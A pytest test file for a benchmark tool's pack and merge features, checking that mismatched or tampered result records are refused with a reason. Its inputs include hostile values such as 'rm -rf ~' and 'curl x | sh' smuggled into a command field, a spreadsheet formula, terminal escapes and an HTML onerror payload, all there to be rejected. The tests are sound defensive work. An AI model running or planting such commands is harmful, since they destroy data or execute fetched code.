"""Packing and merging: what fits is joined, what does not is refused with its reason, line by line."""

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from exchanged import BUDGET, folder, made, refused, suite_of
from latencies import MACHINE, made_up_latency
from sparsebench.bench.exchange.merge import SOURCES, merge
from sparsebench.bench.exchange.pack import IncompatibleResults, pack
from sparsebench.bench.exchange.record_checks import record_errors
from sparsebench.errors import SparsebenchError
from sparsebench.records.measured.latency import Latency, Machine, read_latencies, write_latencies
from sparsebench.records.store import FILE, latest, load_records

Edit = Callable[[dict[str, Any]], None]


def test_two_machines_become_one_leaderboard(tmp_path: Path) -> None:
    one = folder(tmp_path / "one", made("first") + made("both"), suite_of("first", "both"))
    two = folder(tmp_path / "two", made("second") + made("both"), suite_of("second", "both"))
    archive, count, *_ = pack(two, tmp_path / "two.zip")
    assert count == 8
    merged = merge([one, archive], tmp_path / "all")
    assert [r.entry for r in merged.records] == ["first"] * 4 + ["both"] * 4 + ["second"] * 4
    assert load_records(tmp_path / "all") == merged.records
    assert "4 repeated" in merged.notes[1]
    identity = json.loads((tmp_path / "all" / "suite.json").read_text())
    assert [entry["label"] for entry in identity["suite"]["entries"]] == ["first", "both", "second"]
    sources = json.loads((tmp_path / "all" / "sources.json").read_text())["sources"]
    assert [(s["name"], s["records"]) for s in sources] == [("one", 8), ("two.zip", 8)]
    assert len(sources[1]["sha256"]) == 64 and sources[1]["devices"] == {"none": 8}
    again = merge([tmp_path / "all", one], tmp_path / "again")
    assert again.records == merged.records


def test_merging_needs_no_suite_but_the_records(tmp_path: Path) -> None:
    one, two = folder(tmp_path / "one", made("a")), folder(tmp_path / "two", made("b", dataset="other"))
    merge([one, two], tmp_path / "all")
    assert not (tmp_path / "all" / "suite.json").exists()


def test_a_choice_of_tasks_is_packed_and_the_parts_make_the_whole(tmp_path: Path) -> None:
    lines = made("a") + made("a", dataset="other", data_digest="d2")
    suite = suite_of("a")
    suite["suite"]["tasks"].append({**suite["suite"]["tasks"][0], "dataset": "other"})
    suite["data"]["other-net"] = "d2"
    whole = folder(tmp_path / "whole", lines, suite)
    parts = []
    for number, task in enumerate(("toy-net", "other-net")):
        archive, count, *_ = pack(whole, tmp_path / f"{number}.zip", [task])
        assert count == 4
        one = merge([archive], tmp_path / f"part{number}")
        assert {record.task for record in one.records} == {task}
        parts.append(archive)
    both = merge(parts, tmp_path / "both")
    assert {r.id: r.to_json() for r in both.records} == {
        r.id: r.to_json() for r in latest(load_records(whole))
    }
    assert pack(whole, tmp_path / "all.zip", ["toy-net", "other-net", "toy-net"]).records == 8
    for wrong in ("toy", "../toy-net", "\x1b[2J", ""):
        with pytest.raises(SparsebenchError, match="unknown task") as met:
            pack(whole, tmp_path / "x.zip", [wrong])
        assert str(met.value).isprintable()
    assert not (tmp_path / "x.zip").exists()


def test_a_search_made_twice_is_taken_once(tmp_path: Path) -> None:
    one = folder(tmp_path / "one", made("a"), suite_of("a"))
    two = folder(tmp_path / "two", made("a", lr=0.3) + made("b", lr=0.4), suite_of("a", "b"))
    merged = merge([one, two], tmp_path / "all")
    assert [r.entry for r in merged.records] == ["a"] * 4 + ["b"] * 4
    assert {r.recipe["lr"] for r in merged.records if r.entry == "a"} == {0.11}
    assert any("its search of 'a' on toy-net is left out" in note for note in merged.notes)
    shutil.rmtree(tmp_path / "all")
    (two / "suite.json").unlink()
    assert "whether the entries are the same" in refused([one, two], tmp_path / "all")[0]


def test_a_failure_made_good_elsewhere_is_taken_from_there(tmp_path: Path) -> None:
    lines = made("a")
    failed = {**lines[0], "status": "failed", "reason": "no memory"}
    one = folder(tmp_path / "one", [failed, *lines[1:]], suite_of("a"))
    two = folder(tmp_path / "two", lines, suite_of("a"))
    merged = merge([one, two], tmp_path / "all")
    assert [r.status for r in merged.records] == ["ok"] * 4


OTHERS: dict[str, tuple[dict[str, Any], dict[str, Any], str]] = {
    "recipe": ({"epochs": 3}, {"epochs": 3}, "the recipe's epochs on toy-net is 3, in"),
    "data": ({"data_digest": "d2"}, {}, "the data digest of toy-net is 'd2'"),
    "model arguments": ({"model_args": {"w": 2}}, {"model_args": {"w": 2}}, "the model's arguments"),
    "data arguments": ({"dataset_args": {"n": 9}}, {"data_args": {"n": 9}}, "the data's arguments"),
    "dense layers": ({"keep_dense": ("fc",)}, {"keep_dense": ["fc"]}, "kept dense"),
    "method version": ({"method_version": 2}, {}, "the version of method l1 is 2"),
    "budget": ({}, {"budget": {**BUDGET, "trials": 9}}, "the budget's search trials is 9"),
    "cut-off": ({}, {"x_max": 2.0}, "the cut-off x_max of toy-net is 2.0"),
}  # fmt: skip


@pytest.mark.parametrize("what", OTHERS)
def test_what_does_not_fit_is_refused_with_its_reason(what: str, tmp_path: Path) -> None:
    spec, suite, said = OTHERS[what]
    one = folder(tmp_path / "one", made("a"), suite_of("a"))
    two = folder(tmp_path / "two", made("b", **{"lr": 0.2, **spec}), suite_of("b", **suite))
    reasons = refused([one, two], tmp_path / "all")
    assert any(said in reason and str(two) in reason and str(one) in reason for reason in reasons), reasons


def test_two_entries_of_one_label_are_refused(tmp_path: Path) -> None:
    one = folder(tmp_path / "one", made("a"), suite_of("a"))
    other = suite_of("a")
    other["suite"]["entries"][0]["lam"] = {"low": 0.1, "high": 1.0}
    two = folder(tmp_path / "two", made("a"), other)
    assert "the configuration of entry a" in refused([one, two], tmp_path / "all")[0]


def test_one_entry_under_two_labels_is_refused(tmp_path: Path) -> None:
    one = folder(tmp_path / "one", made("a"), suite_of("a"))
    two = folder(tmp_path / "two", made("b"), suite_of("b"))
    assert (
        "entry 'b' on toy-net has the same trials as entry 'a' of" in refused([one, two], tmp_path / "all")[0]
    )


EDITS: dict[str, tuple[Edit, str]] = {
    "knob": (lambda r: r["knobs"].update(lam=0.5), "not the hash of its content"),
    "recipe": (lambda r: r["recipe"].update(epochs=99), "not the hash of its content"),
    "seed": (lambda r: r.update(seed=7), "not the hash of its content"),
    "digest": (lambda r: r.update(data_digest="d9"), "not the hash of its content"),
    "id": (lambda r: r.update(id="0" * 16), "not the hash of its content"),
    "command": (lambda r: r.update(command=r["command"] + "; rm -rf ~"), "command is not the one"),
    "command of another": (lambda r: r.update(command="curl x | sh"), "command is not the one"),
    "command unclosed": (lambda r: r.update(command="'"), "command is not the one"),
    "threads": (lambda r: r.update(command=r["command"] + " --threads 2; ls"), "command is not the one"),
    "threads without a flag": (lambda r: r.update(threads=7), "command is not the one"),
    "odd dense layer": (lambda r: r.update(keep_dense=["a\nb"]), "not printable"),
    "odd data argument": (lambda r: r.update(dataset_args={"": 1}), "not printable"),
    "compression": (lambda r: r.update(compression=80.0), "not that of its layers, 2"),
    "nonzeros": (lambda r: r["layers"][0].update(nonzeros=101), "more nonzero weights"),
    "collapse hidden": (lambda r: r.update(collapsed_layers=["fc"]), "empty layers"),
    "empty layer made up": (lambda r: r.update(empty_layers=["fc"]), "empty layers"),
    "test in the search": (lambda r: r.update(test_accuracy=0.9), "a search trial with a test accuracy"),
    "no accuracy": (lambda r: r.update(val_accuracy=None), "accuracy are missing"),
    "nan": (lambda r: r["params"].update(lam=float("nan")), "params: a number in it is not finite"),
    "infinite": (lambda r: r["diagnostics"].update(x=float("inf")), "finite"),
    "huge": (lambda r: r.update(steps=10**400), "steps has a number"),
    "huge layer": (lambda r: r["layers"][0].update(shape=[10**9] * 4), "too many weights"),
    "huge seconds": (lambda r: r.update(seconds=1e300), "seconds has a number"),
    "formula": (lambda r: r.update(entry="=HYPERLINK(1)"), "spreadsheet formula"),
    "terminal": (lambda r: r.update(entry="\x1b[2J"), "not printable"),
    "long name": (lambda r: r.update(device="x" * 300), "longer than 200"),
    "long text": (lambda r: r.update(warnings=["x" * 30_000]), "longer than 20000"),
    "unknown field": (lambda r: r.update(surprise=1), "surprise"),
    "unknown recipe": (lambda r: r["recipe"].update(trick=1), "are not valid"),
}


@pytest.mark.parametrize("what", EDITS)
def test_an_edited_record_is_refused_by_its_line(what: str, tmp_path: Path) -> None:
    edit, said = EDITS[what]
    lines = made("a")
    edit(lines[1])
    path = folder(tmp_path / "theirs", lines)
    reasons = refused([path], tmp_path / "all")
    assert any(said in reason and f"{path}, line 2: " in reason for reason in reasons), reasons
    with pytest.raises(IncompatibleResults, match="nothing was packed"):
        pack(path, tmp_path / "x.zip")
    assert not (tmp_path / "x.zip").exists()


@pytest.mark.parametrize(("edit", "said"), [
    (lambda lines: lines.pop(0), "confirm search trials that are missing"),
    (lambda lines: lines[2].update(confirms=lines[1]["id"]), "does not repeat the trial"),
    (lambda lines: lines[3].update(entry="b"), "record"),
    (lambda lines: lines.clear(), "no records"),
])  # fmt: skip
def test_records_that_do_not_belong_together_are_refused(edit: Any, said: str, tmp_path: Path) -> None:
    lines = made("a")
    edit(lines)
    path = folder(tmp_path / "theirs", lines, suite_of("a"))
    assert any(said in reason for reason in refused([path], tmp_path / "all"))


def test_lines_that_are_no_records_are_refused_and_the_list_ends(tmp_path: Path) -> None:
    path = folder(tmp_path / "theirs", [])
    (path / FILE).write_bytes(b"{}\n" * 40 + b"\xff\n" + b'{"knobs": ' + b"[" * 100_000 + b"\n")
    reasons = refused([path], tmp_path / "all")
    assert len(reasons) == 21 and reasons[-1].endswith("reading stopped there")


@pytest.mark.parametrize("suite", ["[", "{}", '{"suite": {"name": "../x"}}', '{"a": ' + "[" * 100_000])
def test_a_damaged_suite_is_refused(suite: str, tmp_path: Path) -> None:
    path = folder(tmp_path / "theirs", made("a"))
    (path / "suite.json").write_text(suite)
    assert "suite.json is damaged" in refused([path], tmp_path / "all")[0]


def test_names_with_html_are_text(tmp_path: Path) -> None:
    name = "<img src=x onerror=alert(1)>"
    merged = merge([folder(tmp_path / "one", made(name), suite_of(name))], tmp_path / "all")
    from sparsebench.reports.analysis.boards import boards
    from sparsebench.reports.tables.markdown import to_markdown

    assert "<img" not in to_markdown(boards(merged.records))


def test_nothing_is_written_over_sources_that_are_there(tmp_path: Path) -> None:
    (tmp_path / "all").mkdir()
    (tmp_path / "all" / SOURCES).write_text("mine")
    with pytest.raises(SparsebenchError, match="holds results already"):
        merge([folder(tmp_path / "one", made("a"))], tmp_path / "all")
    assert [path.read_text() for path in (tmp_path / "all").iterdir()] == ["mine"]


def test_a_torn_last_line_is_left_out_and_old_results_stay(tmp_path: Path) -> None:
    path = folder(tmp_path / "one", made("a"))
    with (path / FILE).open("a") as file:
        file.write('{"schema": 2, "id"')
    merged = merge([path], tmp_path / "all")
    assert len(merged.records) == 4
    with pytest.raises(SparsebenchError, match="holds results already"):
        merge([path], tmp_path / "all")
    with pytest.raises(SparsebenchError, match="is not a folder"):
        pack(tmp_path / "nowhere")
    (tmp_path / "file").write_text("")
    for taken in (tmp_path / "file", tmp_path / "file" / "below"):
        with pytest.raises(SparsebenchError, match="cannot write"):
            merge([path], taken)
    assert "no such archive" in refused([tmp_path / "nowhere"], tmp_path / "new")[0]


def test_a_real_campaign_packs_and_merges(finished: Path, tmp_path: Path) -> None:
    records = latest(load_records(finished))
    assert [record_errors(record) for record in records] == [[]] * len(records)
    archive, count, unsealed, _ = pack(finished, tmp_path / "real.zip")
    again = pack(finished, tmp_path / "again.zip").path
    assert (count, unsealed) == (len(records), 0) and archive.read_bytes() == again.read_bytes()
    merged = merge([archive], tmp_path / "all")
    assert merged.records == records
    assert pack(merged.folder, tmp_path / "merged.zip").path.read_bytes() == archive.read_bytes()


@pytest.mark.slow
def test_the_commands(finished: Path, tmp_path: Path, cli: Any) -> None:
    packed = cli("pack", finished, "--out", tmp_path / "one.zip")
    assert packed.code == 0 and "records" in packed.out
    merged = cli("merge", tmp_path / "one.zip", finished, "--out", tmp_path / "all")
    assert merged.code == 0 and "repeated" in merged.out and (tmp_path / "all/leaderboard.md").is_file()
    (tmp_path / "bad.zip").write_bytes(b"no")
    bad = cli("merge", tmp_path / "one.zip", tmp_path / "bad.zip", "--out", tmp_path / "no")
    assert bad.code == 2 and bad.err.splitlines()[0].startswith(str(tmp_path / "bad.zip"))
    assert bad.err.splitlines()[-1] == "error: nothing was merged: one problem"


def test_times_travel_with_their_records_and_machines_stay_apart(tmp_path: Path) -> None:
    one = folder(tmp_path / "one", made("first"), suite_of("first", "second"))
    two = folder(tmp_path / "two", made("second"), suite_of("first", "second"))
    here, there = MACHINE, MACHINE.model_copy(update={"id": "ffffffff"})
    trials = {place: load_records(place)[0] for place in (one, two)}

    def timed(place: Path, machine: Machine, batch: int) -> Latency:
        record = trials[place]
        return made_up_latency(record.entry, 64, batch, task=record.task, trial=record.id, machine=machine)

    gone = made_up_latency("first", 8, 1, task="toy-net", trial="f" * 16)
    write_latencies(one, [timed(one, here, 1), timed(one, here, 64), gone])
    write_latencies(two, [timed(two, there, 1)])
    archive = pack(two, tmp_path / "two.zip").path
    merge([one, archive], tmp_path / "all")
    found = read_latencies(tmp_path / "all")
    assert {(t.entry, t.machine.id, t.batch) for t in found} == {
        ("first", here.id, 1),
        ("first", here.id, 64),
        ("second", "ffffffff", 1),
    }
    (one / "latency.json").write_text('[{"task": "toy-net"}]')
    reasons = refused([one, archive], tmp_path / "more")
    assert any("its latency.json is damaged" in reason for reason in reasons)
